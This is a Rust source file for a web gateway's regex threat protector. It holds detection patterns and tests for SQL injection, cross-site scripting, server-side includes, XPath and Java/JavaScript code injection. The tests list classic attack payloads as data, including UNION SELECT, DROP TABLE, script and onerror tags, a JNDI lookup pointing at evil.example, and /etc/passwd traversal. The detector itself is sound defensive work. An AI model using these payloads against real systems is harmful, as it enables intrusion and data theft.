//! The regex protector: a built-in set of patterns for SQL injection, cross-site scripting,
//! server-side includes, XPath injection and code injection, plus the user's own, all
//! compiled once per snapshot into one multi-pattern matcher (a `RegexSet` over bytes: one
//! pass over a value, whatever the number of patterns).
//!
//! Values are scanned decoded: percent-escapes (twice, so `%253C` is no bypass), `+` as a
//! space in queries, and HTML character references (`&lt;`, `&#60;`, `&#x3c;`), so encoding a
//! payload does not hide it. The patterns are ours, written for this gateway with WSO2's
//! default regex threat protector as a reference for what to cover; each is tested for what it
//! catches and for ordinary text it must let through (docs/threat-protection.md).

use regex::bytes::{RegexSet, RegexSetBuilder};
use std::borrow::Cow;

/// The built-in patterns: (rule name, pattern). Case-insensitive, ASCII word boundaries.
pub const BUILT_IN: &[(&str, &str)] = &[
    // SQL injection: the shapes an injected fragment takes, not SQL words in prose.
    ("sql.union_select", r"\bunion(\s+all|\s+distinct)?\s+select\b"),
    ("sql.tautology", r#"['"`]\s*\)?\s*(or|and)\s+(['"`]\w*['"`]|\d+)\s*(=|<>|!=|like)\s*(['"`]\w*|\d+)"#),
    // A quote closing a literal, then a comment that ends the statement (`admin'--`): the
    // comment must end the value, so prose like `"no" -- he said` passes.
    ("sql.comment_after_quote", r#"['"`]\s*\)?\s*(;\s*)?(--|#)[\s-]*$|['"`]\s*\)?\s*/\*"#),
    (
        "sql.stacked_statement",
        r";\s*(drop\s+(table|database|schema)|truncate\s+table|alter\s+table|delete\s+from|insert\s+into|update\s+\w+\s+set|exec(ute)?\s+\w)",
    ),
    ("sql.timing_function", r"\b(sleep|benchmark|pg_sleep)\s*\(\s*\d|\bwaitfor\s+delay\s+'"),
    ("sql.system_objects", r"\b(information_schema|xp_cmdshell|sys\.objects|pg_catalog)\b"),
    // Cross-site scripting.
    ("xss.script_tag", r"<\s*/?\s*script\b"),
    ("xss.event_handler", r"<[^>]*\s+on[a-z]{3,}\s*="),
    ("xss.script_uri", r#"(href|src|action|formaction|xlink:href)\s*=\s*['"]?\s*(javascript|vbscript|data\s*:\s*text/html)\s*:?"#),
    ("xss.active_tag", r"<\s*(iframe|object|embed|svg|math|base|meta|frameset|applet)\b"),
    // Server-side includes.
    ("ssi.directive", r"<!--\s*#\s*(exec|include|echo|config|set|printenv|fsize|flastmod)\b"),
    // XPath injection: a quote closing a predicate, then a union or a wildcard path.
    ("xpath.predicate_escape", r"['\x22]\s*\]\s*(\||/\s*/|\[)"),
    ("xpath.functions", r"\b(count|string-length|substring|name)\s*\(\s*/"),
    // Code injection: Java and JavaScript.
    ("code.java_runtime", r"\bjava\.lang\.(runtime|processbuilder|reflect)\b|\bruntime\s*\.\s*getruntime\s*\(|\bclass\.forname\s*\("),
    ("code.java_exception", r"\bat\s+(java|javax|sun|org\.apache)\.[\w.$]+\([\w$]+\.java:\d+\)|\b(java|javax)\.[\w.]+(exception|error):"),
    ("code.jndi_lookup", r"\$\{\s*(jndi|lower|upper|env|sys|java)\s*:"),
    (
        "code.javascript_sink",
        r"\b(eval|settimeout|setinterval|function)\s*\(\s*['\x22`]|\bdocument\s*\.\s*(cookie|write|domain)\b|\bwindow\s*\.\s*location\s*=",
    ),
    ("code.path_traversal", r"(\.\.[/\\]){2,}|/etc/(passwd|shadow)\b|\bwin\.ini\b|\bcmd\.exe\b"),
];

/// A compiled protector.
#[derive(Debug)]
pub struct RegexProtector {
    set: RegexSet,
    names: Vec<Box<str>>,
    /// With exactly the built-in set: the rules a token-like value can match at all, as one
    /// literal search (see [`TOKEN_WORDS`]).
    token_words: Option<regex::bytes::Regex>,
}

/// A value made only of `[A-Za-z0-9_.-]` (a JWT, a base64url token, an id), after an optional
/// auth scheme word and one space, has no space, quote, bracket, `<`, `;`, `(`, `/`, `$`, `=`
/// or `:`. Of the built-in patterns only these words can match such a value; each is the
/// start of the rule named beside it. `token_values_get_the_same_verdict_either_way` checks
/// this against the full set.
pub const TOKEN_WORDS: &[(&str, &str)] = &[
    ("information_schema", "sql.system_objects"),
    ("xp_cmdshell", "sql.system_objects"),
    ("sys.objects", "sql.system_objects"),
    ("pg_catalog", "sql.system_objects"),
    ("java.lang.runtime", "code.java_runtime"),
    ("java.lang.processbuilder", "code.java_runtime"),
    ("java.lang.reflect", "code.java_runtime"),
    ("document.cookie", "code.javascript_sink"),
    ("document.write", "code.javascript_sink"),
    ("document.domain", "code.javascript_sink"),
    ("win.ini", "code.path_traversal"),
    ("cmd.exe", "code.path_traversal"),
];

/// The token-like form of a value: `[A-Za-z0-9_.-]+`, after an optional scheme word (`Bearer `).
fn token_like(value: &[u8]) -> bool {
    let body = match value.iter().position(|&b| b == b' ') {
        Some(i) if value[..i].iter().all(u8::is_ascii_alphabetic) => &value[i + 1..],
        Some(_) => return false,
        None => value,
    };
    !body.is_empty() && body.iter().all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-'))
}

impl RegexProtector {
    /// Compiles `patterns` (rule name, pattern). Errors: the index of the bad pattern and why.
    pub fn compile<'a>(patterns: impl IntoIterator<Item = (&'a str, &'a str)>) -> Result<RegexProtector, (usize, String)> {
        let (names, sources): (Vec<Box<str>>, Vec<String>) =
            patterns.into_iter().map(|(n, p)| (Box::from(n), format!("(?i-u:{p})"))).unzip();
        for (i, s) in sources.iter().enumerate() {
            if let Err(e) = regex::bytes::Regex::new(s) {
                return Err((i, e.to_string()));
            }
        }
        let set = RegexSetBuilder::new(&sources).size_limit(16 << 20).dfa_size_limit(16 << 20).build().map_err(|e| (0, e.to_string()))?;
        let built_in = names.len() == BUILT_IN.len()
            && names.iter().zip(&sources).zip(BUILT_IN).all(|((n, s), (bn, bp))| **n == **bn && *s == format!("(?i-u:{bp})"));
        let token_words = built_in
            .then(|| {
                let alternation: Vec<String> = TOKEN_WORDS.iter().map(|(w, _)| regex::escape(w)).collect();
                // With the word boundaries the built-in patterns put around each of them.
                // Case-sensitive literals over a lowercased copy, the word boundaries checked by
                // hand: a pure literal search (SIMD), where case-insensitive alternatives or
                // `\b` need the lazy DFA.
                regex::bytes::Regex::new(&format!("(?-u:{})", alternation.join("|"))).ok()
            })
            .flatten();
        Ok(RegexProtector { set, names, token_words })
    }

    /// The built-in set.
    pub fn built_in() -> RegexProtector {
        // The built-in patterns are tested to compile (`every_built_in_pattern_compiles`).
        match RegexProtector::compile(BUILT_IN.iter().copied()) {
            Ok(p) => p,
            Err(_) => RegexProtector { set: RegexSet::empty(), names: Vec::new(), token_words: None },
        }
    }

    /// The first rule (in list order) that matches `value` as it is.
    pub fn scan_raw(&self, value: &[u8]) -> Option<&str> {
        // A token-like value (a bearer token, an id) can only match a few literal words: one
        // literal search instead of the whole set (1.7 µs for a 577-character JWT otherwise).
        if let Some(words) = &self.token_words {
            if token_like(value) {
                thread_local! {
                    static LOWER: std::cell::RefCell<Vec<u8>> = const { std::cell::RefCell::new(Vec::new()) };
                }
                return LOWER.with_borrow_mut(|lower| {
                    lower.clear();
                    lower.extend(value.iter().map(u8::to_ascii_lowercase));
                    let word = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_');
                    let found =
                        words.find_iter(lower).find(|m| !word(lower.get(m.start().wrapping_sub(1))) && !word(lower.get(m.end())))?;
                    TOKEN_WORDS.iter().find(|(w, _)| w.as_bytes() == found.as_bytes()).map(|(_, rule)| *rule)
                });
            }
        }
        self.set.matches(value).iter().next().and_then(|i| self.names.get(i)).map(|n| &**n)
    }

    /// The first rule that matches `value` decoded (`query`: `+` is a space). Patterns are
    /// written against decoded text; decoding only rewrites escapes, so a pattern without `%`,
    /// `&` or `+` of its own that matches the raw value matches the decoded one too.
    pub fn scan(&self, value: &[u8], query: bool) -> Option<&str> {
        self.scan_raw(&decode(value, query))
    }
}

/// `value` with percent-escapes decoded twice, `+` as a space when `query`, and HTML
/// character references decoded; borrowed when there is nothing to decode.
pub fn decode(value: &[u8], query: bool) -> Cow<'_, [u8]> {
    if !value.iter().any(|&b| b == b'%' || b == b'&' || (query && b == b'+')) {
        return Cow::Borrowed(value);
    }
    let mut out = value.to_vec();
    if query {
        for b in &mut out {
            if *b == b'+' {
                *b = b' ';
            }
        }
    }
    for _ in 0..2 {
        if !out.contains(&b'%') {
            break;
        }
        out = percent_encoding::percent_decode(&out).collect();
    }
    if out.contains(&b'&') {
        out = html_unescape(&out);
    }
    Cow::Owned(out)
}

/// Decodes `&lt; &gt; &quot; &apos; &amp; &#NN; &#xHH;` (the ones a payload hides behind).
fn html_unescape(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        if s[i] == b'&' {
            let end = s[i..].iter().take(12).position(|&b| b == b';').map(|p| i + p);
            if let Some(end) = end {
                let entity = &s[i + 1..end];
                let ch = match entity {
                    b"lt" => Some('<' as u32),
                    b"gt" => Some('>' as u32),
                    b"quot" => Some('"' as u32),
                    b"apos" => Some('\'' as u32),
                    b"amp" => Some('&' as u32),
                    [b'#', b'x' | b'X', hex @ ..] => std::str::from_utf8(hex).ok().and_then(|h| u32::from_str_radix(h, 16).ok()),
                    [b'#', dec @ ..] => std::str::from_utf8(dec).ok().and_then(|d| d.parse().ok()),
                    _ => None,
                };
                if let Some(c) = ch.and_then(char::from_u32) {
                    let mut buf = [0u8; 4];
                    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                    i = end + 1;
                    continue;
                }
            }
        }
        out.push(s[i]);
        i += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_built_in_pattern_compiles() {
        for (i, (name, p)) in BUILT_IN.iter().enumerate() {
            assert!(RegexProtector::compile([(*name, *p)]).is_ok(), "{i} {name}");
        }
        assert!(RegexProtector::compile(BUILT_IN.iter().copied()).is_ok());
    }

    #[test]
    fn the_classic_attacks_are_caught_by_their_rule() {
        let p = RegexProtector::built_in();
        for (payload, rule) in [
            ("1 UNION SELECT username, password FROM users", "sql.union_select"),
            ("1 union all select null,null--", "sql.union_select"),
            ("' OR 1=1", "sql.tautology"),
            ("x' or 'a'='a", "sql.tautology"),
            ("\" OR \"\"=\"", "sql.tautology"),
            ("admin'--", "sql.comment_after_quote"),
            ("admin') /*", "sql.comment_after_quote"),
            ("1; DROP TABLE users", "sql.stacked_statement"),
            ("5; delete from orders where 1", "sql.stacked_statement"),
            ("1 AND SLEEP(5)", "sql.timing_function"),
            ("'; WAITFOR DELAY '0:0:5'", "sql.timing_function"),
            ("select * from information_schema.tables", "sql.system_objects"),
            ("<script>alert(1)</script>", "xss.script_tag"),
            ("< SCRIPT src=//evil>", "xss.script_tag"),
            ("<img src=x onerror=alert(1)>", "xss.event_handler"),
            ("<body onload = steal()>", "xss.event_handler"),
            ("<a href=\"javascript:alert(1)\">", "xss.script_uri"),
            ("<iframe src=//evil.example>", "xss.active_tag"),
            ("<svg/onload=alert(1)>", "xss.active_tag"),
            ("<!--#exec cmd=\"ls\" -->", "ssi.directive"),
            ("<!-- #include virtual=\"/etc/passwd\" -->", "ssi.directive"),
            ("x'] | //user[name='admin", "xpath.predicate_escape"),
            ("count(/users/user)", "xpath.functions"),
            ("java.lang.Runtime", "code.java_runtime"),
            ("Runtime.getRuntime().exec(\"id\")", "code.java_runtime"),
            ("\tat java.util.ArrayList.get(ArrayList.java:42)", "code.java_exception"),
            ("java.lang.NullPointerException: oops", "code.java_exception"),
            ("${jndi:ldap://evil.example/a}", "code.jndi_lookup"),
            ("${ lower:j}ndi", "code.jndi_lookup"),
            ("eval('alert(1)')", "code.javascript_sink"),
            ("document.cookie", "code.javascript_sink"),
            ("../../../etc/passwd", "code.path_traversal"),
            ("..\\..\\windows\\win.ini", "code.path_traversal"),
        ] {
            assert_eq!(p.scan(payload.as_bytes(), false), Some(rule), "{payload:?}");
        }
    }

    #[test]
    fn encoding_is_no_bypass() {
        let p = RegexProtector::built_in();
        for (payload, query) in [
            ("%3Cscript%3Ealert(1)%3C%2Fscript%3E", false),
            ("%253Cscript%253E", false),
            ("1+UNION+SELECT+password+FROM+users", true),
            ("&lt;script&gt;", false),
            ("&#60;script&#62;", false),
            ("&#x3C;svg onload=x&#x3E;", false),
            ("%26lt%3Bscript%26gt%3B", false),
        ] {
            assert!(p.scan(payload.as_bytes(), query).is_some(), "{payload:?}");
        }
    }

    #[test]
    fn ordinary_text_passes() {
        let p = RegexProtector::built_in();
        for benign in [
            "O'Brien",
            "Miles O'Brien's order",
            "Please select a size and drop it in the basket",
            "We will drop the old table from the kitchen",
            "union members select their delegates",
            "SELECT is a keyword; so is DROP",
            "alice@example.com",
            "https://shop.example/items/42?ref=a%20b&sort=price",
            r#"{"name":"O'Brien","note":"it's 5 o'clock","url":"https://x.example/?a=1&b=2"}"#,
            "I <3 your API",
            "a < b and c > d",
            "on sale = true",
            "Tom & Jerry",
            "He said \"no\" -- then he left",
            "the \"x\" # of items",
            "the function(x) returns y",
            "price > 10 and qty = 2",
            "the script is ready",
            "2 + 2 = 4",
            "path/to/file.txt",
            "It's 1=1 in algebra, isn't it",
            "<b>bold</b> and <i>italic</i>",
            "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><m:GetPrice xmlns:m=\"https://www.w3schools.com/prices\"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>",
        ] {
            assert_eq!(p.scan(benign.as_bytes(), false), None, "{benign:?}");
            assert_eq!(p.scan(benign.as_bytes(), true), None, "{benign:?} as a query");
        }
    }

    #[test]
    fn token_values_get_the_same_verdict_either_way() {
        let fast = RegexProtector::built_in();
        assert!(fast.token_words.is_some());
        // The same patterns under other names: no fast path, the whole set decides.
        let renamed: Vec<(String, &str)> = BUILT_IN.iter().map(|(n, p)| (format!("{n}."), *p)).collect();
        let full = RegexProtector::compile(renamed.iter().map(|(n, p)| (n.as_str(), *p))).unwrap();
        assert!(full.token_words.is_none());
        let jwt = "eyJhbGciOiJSUzI1NiIsImtpZCI6ImsxIn0.eyJzdWIiOiJ1c2VyLTQyIn0.c2lnbmF0dXJl-_x";
        let mut values: Vec<String> =
            vec![jwt.into(), format!("Bearer {jwt}"), "12345".into(), "a.b-c_d".into(), "Basic dXNlcjpwYXNz".into()];
        for (w, _) in TOKEN_WORDS {
            values.push(format!("Bearer abc{w}xyz"));
            values.push(format!("Bearer abc.{w}.xyz"));
            values.push(w.to_ascii_uppercase());
        }
        // Words of other rules that a token cannot spell completely.
        for w in ["union", "select", "script", "sleep", "etc.passwd", "java.lang.Runtimex", "jndi", "eval"] {
            values.push(format!("x.{w}.y"));
        }
        for v in &values {
            assert!(token_like(v.as_bytes()) || v.contains(' '), "{v}");
            let a = fast.scan_raw(v.as_bytes());
            let b = full.scan_raw(v.as_bytes()).map(|r| r.trim_end_matches('.'));
            assert_eq!(a, b, "{v:?}");
        }
        // And the fast path does catch: every word, delimited, is found by its rule.
        for (w, rule) in TOKEN_WORDS {
            assert_eq!(fast.scan_raw(format!("Bearer abc.{w}.xyz").as_bytes()), Some(*rule), "{w}");
        }
    }

    #[test]
    fn user_patterns_compile_into_the_same_set_and_bad_ones_are_reported() {
        let p = RegexProtector::compile([("no-tabs", r"\t"), ("sql.union_select", BUILT_IN[0].1)]).unwrap();
        assert_eq!(p.scan(b"a\tb", false), Some("no-tabs"));
        assert_eq!(p.scan(b"x union select y", false), Some("sql.union_select"));
        let err = RegexProtector::compile([("ok", "a"), ("broken", "(")]).unwrap_err();
        assert_eq!(err.0, 1);
    }
}
